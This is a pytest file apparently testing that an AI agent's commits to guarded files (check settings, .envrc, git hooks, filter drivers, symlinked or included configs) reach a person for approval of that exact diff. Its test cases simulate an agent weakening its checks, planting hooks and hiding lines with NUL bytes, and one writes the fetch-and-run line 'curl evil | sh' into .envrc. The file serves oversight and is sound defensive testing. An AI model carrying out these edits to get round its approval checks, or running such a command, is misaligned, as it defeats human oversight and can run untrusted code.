"""Commits that change guarded files come back only with an approval of exactly that change."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from podium.core.errors import GuardedFilesChanged, ImportRefused
from podium.core.processes import ProcessExit, ProcessSpec
from podium.core.workspaces import GuardedChange, WorkspaceRecord
from podium.git import GitWorkspaces
from podium.platform.system_clock import SystemClock, SystemIds
from podium.ports import Workspace
from podium.sandbox import ProcessLauncher
from tests.integration.workspaces.git_project import GitProject, agent_commits, agent_git
from tests.soaking import in_soak

CHECKS = "checks: ['pytest -q']\n"


@pytest.fixture
def git_project(tmp_path: Path) -> GitProject:
    git_project = GitProject(tmp_path).build()
    (git_project.repository / "podium.yaml").write_text(CHECKS)
    (git_project.repository / "env").mkdir()
    (git_project.repository / "env/dev.sh").write_text("export A=1\n")
    (git_project.repository / ".envrc").symlink_to("env/dev.sh")
    git_project.git("add", "--all")
    git_project.git("commit", "--quiet", "--message=guards")
    return git_project


async def asked(workspace: Workspace, approved: str = "") -> GuardedChange:
    """Return the change that a person is asked about. Nothing came back."""
    with pytest.raises(GuardedFilesChanged) as raised:
        await workspace.deliver(approved)
    return raised.value.change


def loosens(record: WorkspaceRecord) -> None:
    agent_commits(record, "podium.yaml", "checks: ['true']\n")


def removes(record: WorkspaceRecord) -> None:
    agent_git(record, "rm", "--quiet", "podium.yaml")
    agent_git(record, "commit", "--quiet", "--message=gone")


def renames(record: WorkspaceRecord) -> None:
    agent_git(record, "mv", "podium.yaml", "old.yaml")
    agent_git(record, "commit", "--quiet", "--message=moved")


def makes_it_a_program(record: WorkspaceRecord) -> None:
    Path(record.path, "podium.yaml").chmod(0o755)
    agent_git(record, "commit", "--quiet", "--all", "--message=mode")


def links(record: WorkspaceRecord) -> None:
    Path(record.path, ".vscode").symlink_to("src")
    agent_git(record, "add", "--all")
    agent_git(record, "commit", "--quiet", "--message=link")


def changes_and_changes_back(record: WorkspaceRecord) -> None:
    agent_commits(record, "podium.yaml", "checks: []\n")
    agent_commits(record, "podium.yaml", CHECKS)


def names_a_driver(record: WorkspaceRecord) -> None:
    agent_commits(record, ".gitattributes", "*.py filter=tidy\n")


def plants_a_hook(record: WorkspaceRecord) -> None:
    Path(record.path, "src/pre-commit").write_text("#!/bin/sh\n")
    agent_commits(record, "two.txt")


@pytest.mark.sample(3)
@pytest.mark.parametrize(
    ("act", "named", "shown"),
    [
        (loosens, "podium.yaml (changed)", "+checks: ['true']"),
        (removes, "podium.yaml (removed)", "-checks: ['pytest -q']"),
        in_soak(renames, "podium.yaml (removed)", "-checks: ['pytest -q']"),
        (makes_it_a_program, "podium.yaml (changed, mode 100644 to 100755)", "new mode 100755"),
        (links, ".vscode (new link)", "+src"),
        (changes_and_changes_back, "podium.yaml (changed and changed back)", "+checks: []"),
        in_soak(names_a_driver, ".gitattributes (new)", "+*.py filter=tidy"),
        (plants_a_hook, "src/pre-commit (new)", "+#!/bin/sh"),
        (lambda record: agent_commits(record, "Podium.YAML"), "Podium.YAML (new)", "+work"),
        in_soak(
            lambda record: agent_commits(record, "env/dev.sh"), "env/dev.sh (changed)", "+work"
        ),
    ],
)
async def test_a_guarded_file_is_asked_about_with_its_diff(
    git_project: GitProject, act: Callable[[WorkspaceRecord], object], named: str, shown: str
) -> None:
    workspace = await git_project.made()
    before = git_project.refs()
    act(workspace.record)
    change = await asked(workspace)
    assert named in change.files
    assert shown in change.diff
    assert git_project.refs() == before


async def test_an_approval_is_for_one_diff_and_ordinary_commits_need_none(
    git_project: GitProject,
) -> None:
    workspace = await git_project.made()
    agent_commits(workspace.record, "one.txt", "more\n")
    agent_commits(workspace.record, ".gitattributes", "docs/log.md merge=union\n")
    assert (await workspace.deliver()).commits
    loosens(workspace.record)
    change = await asked(workspace)
    agent_commits(workspace.record, "podium.yaml", "checks: []\n")
    other = await asked(workspace, change.digest)
    assert other.digest != change.digest
    # What is not guarded changes nothing about what was approved.
    agent_commits(workspace.record, "one.txt", "still more\n")
    assert (await workspace.deliver(other.digest)).paths == ("one.txt", "podium.yaml")


@pytest.mark.soak
async def test_a_merge_that_keeps_the_older_guards_is_asked_about(git_project: GitProject) -> None:
    workspace = await git_project.made()
    agent_commits(workspace.record, "one.txt", "mine\n")
    await workspace.deliver()
    (git_project.repository / "podium.yaml").write_text("checks: ['pytest -q', mypy]\n")
    git_project.git("commit", "--quiet", "--all", "--message=stricter")
    theirs = git_project.git("rev-parse", "HEAD")
    record = workspace.record
    agent_git(record, "merge", "--quiet", "-s", "ours", "--no-edit", theirs)
    change = await asked(workspace)
    assert change.paths == ("podium.yaml",)
    assert "-checks: ['pytest -q', mypy]" in change.diff


class CountingLauncher(ProcessLauncher):
    """Remembers what was started."""

    def __init__(self) -> None:
        super().__init__()
        self.started: list[tuple[str, ...]] = []

    async def run(self, spawn: ProcessSpec) -> ProcessExit:
        self.started.append(tuple(spawn.argv))
        return await super().run(spawn)


async def test_a_merge_of_many_guarded_files_is_compared_once(git_project: GitProject) -> None:
    settings = git_project.repository / ".vscode"
    settings.mkdir()
    workspace = await git_project.made()
    agent_commits(workspace.record, "one.txt", "mine\n")
    for number in range(20):
        (settings / f"{number}.json").write_text("{}")
    git_project.git("add", "--all")
    git_project.git("commit", "--quiet", "--message=theirs")
    agent_git(
        workspace.record, "merge", "--quiet", "--no-edit", git_project.git("rev-parse", "HEAD")
    )
    launcher = CountingLauncher()
    workspaces = GitWorkspaces(
        launcher,
        git_project.state,
        SystemClock(),
        SystemIds(),
        secrets_in=git_project.secrets_in,
        confined=False,
    )
    assert (await (await workspaces.open(workspace.record.id)).deliver()).commits
    compared = [argv for argv in launcher.started if {"diff-tree", "--name-only"} <= set(argv)]
    assert len(compared) < 10


@pytest.mark.soak
async def test_a_merge_that_takes_the_users_guards_is_not(git_project: GitProject) -> None:
    workspace = await git_project.made()
    loosens(workspace.record)
    await workspace.deliver((await asked(workspace)).digest)
    (git_project.repository / "two.txt").write_text("theirs\n")
    git_project.git("add", "--all")
    git_project.git("commit", "--quiet", "--message=theirs")
    await workspace.merge("main", "Merge", {"Podium-Step": "merge"})
    assert (await workspace.deliver()).commits


async def test_the_folder_that_git_takes_hooks_from_is_guarded(git_project: GitProject) -> None:
    git_project.git("config", "core.hooksPath", "tools/git")
    workspace = await git_project.made()
    Path(workspace.record.path, "tools/git").mkdir(parents=True)
    agent_commits(workspace.record, "tools/git/helper.sh")
    assert (await asked(workspace)).paths == ("tools/git/helper.sh",)


def writes(path: str) -> Callable[[WorkspaceRecord], object]:
    def act(record: WorkspaceRecord) -> None:
        Path(record.path, path).parent.mkdir(parents=True, exist_ok=True)
        agent_commits(record, path, "changed\n")

    return act


def links_above(record: WorkspaceRecord) -> None:
    Path(record.path, ".config").symlink_to("conf")
    writes("conf/mise/config.toml")(record)


@pytest.mark.sample(2)
@pytest.mark.parametrize(
    ("files", "links_to", "act", "paths"),
    [
        pytest.param(
            {"shells/v1/dev.sh": "x\n"},
            {"shell": "shells/v1", ".autoenv": "shell/dev.sh"},
            writes("shells/v1/dev.sh"),
            ("shells/v1/dev.sh",),
            id="through a link to a folder",
        ),
        pytest.param(
            {"shells/v1/b/dev.sh": "x\n", "shells/v2/dev.sh": "x\n"},
            {"s": "shells/v1", "shells/v1/b/up": "../../v2", ".autoenv": "s/b/up/dev.sh"},
            writes("shells/v2/dev.sh"),
            ("shells/v2/dev.sh",),
            id="through a link up from where another led",
        ),
        pytest.param({}, {}, links_above, (".config", "conf/mise/config.toml"), id="a new link"),
        pytest.param(
            {"conf/mise/config.toml": "x\n"},
            {".config": "conf"},
            writes("conf/mise/config.toml"),
            ("conf/mise/config.toml",),
            id="through a link above a pattern",
        ),
        pytest.param(
            {".gitconfig": "[Include]\n\tpath = tools/one\n", "tools/one": "[includeIf \"x\"]\npath=two\n"},
            {},
            writes("tools/two"),
            ("tools/two",),
            id="included by a file of git settings",
        ),
    ],
)  # fmt: skip
async def test_what_guarded_files_lead_to_is_guarded(
    git_project: GitProject,
    files: dict[str, str],
    links_to: dict[str, str],
    act: Callable[[WorkspaceRecord], object],
    paths: tuple[str, ...],
) -> None:
    for path, text in files.items():
        (git_project.repository / path).parent.mkdir(parents=True, exist_ok=True)
        (git_project.repository / path).write_text(text)
    for path, target in links_to.items():
        (git_project.repository / path).symlink_to(target)
    git_project.git("add", "--all")
    git_project.git("commit", "--quiet", "--allow-empty", "--message=indirect")
    workspace = await git_project.made()
    act(workspace.record)
    assert (await asked(workspace)).paths == paths


async def test_settings_that_the_users_git_includes_are_guarded(git_project: GitProject) -> None:
    (git_project.repository / "tools").mkdir()
    (git_project.repository / "tools/git.conf").write_text("[include]\npath = more.conf\n")
    git_project.git("add", "--all")
    git_project.git("commit", "--quiet", "--message=settings")
    git_project.git("config", "include.path", "../tools/git.conf")
    workspace = await git_project.made()
    agent_commits(workspace.record, "tools/more.conf", "[core]\n")
    agent_commits(workspace.record, "tools/other.conf", "[core]\n")
    agent_commits(workspace.record, "tools/git.conf", "[core]\n")
    assert (await asked(workspace)).paths == ("tools/more.conf", "tools/git.conf")


async def test_an_included_file_in_an_unknown_home_keeps_nothing_from_coming_back(
    git_project: GitProject,
) -> None:
    git_project.git("config", "includeIf.gitdir:/nowhere/.path", "~nobody-of-this-name/x")
    git_project.git("config", "core.hooksPath", "tools")
    workspace = await git_project.made()
    agent_commits(workspace.record, "new.txt")
    assert (await workspace.deliver()).commits
    (Path(workspace.record.path) / "tools").mkdir()
    agent_commits(workspace.record, "tools/pre-commit")
    assert (await asked(workspace)).paths == ("tools/pre-commit",)


async def test_a_diff_that_is_too_long_to_be_shown_is_refused(git_project: GitProject) -> None:
    workspace = await git_project.made()
    agent_commits(workspace.record, "podium.yaml", "# line\n" * 20_000)
    with pytest.raises(ImportRefused, match=r"too large to review \(podium.yaml\)"):
        await workspace.deliver()


async def test_a_nul_byte_does_not_hide_the_lines_of_a_guarded_file(
    git_project: GitProject,
) -> None:
    workspace = await git_project.made()
    agent_commits(workspace.record, ".envrc", "# x\0\ncurl evil | sh\n")
    assert "+curl evil | sh" in (await asked(workspace)).diff


async def test_a_form_feed_does_not_hide_a_driver(git_project: GitProject) -> None:
    workspace = await git_project.made()
    agent_commits(workspace.record, ".gitattributes", "*[!\f#] filter=evil\n")
    assert (await asked(workspace)).paths == (".gitattributes",)
